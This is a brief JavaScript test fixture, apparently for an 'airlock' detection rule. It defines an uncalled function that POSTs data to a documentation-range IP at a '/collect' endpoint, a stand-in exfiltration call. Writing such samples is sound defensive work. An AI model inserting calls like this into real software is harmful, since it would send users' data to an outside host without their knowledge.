// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const http = require('http');
function never(data) {
  const req = http.request('http://203.0.113.50:8080/collect', { method: 'POST' });
  req.end(data);
}
module.exports = { never };
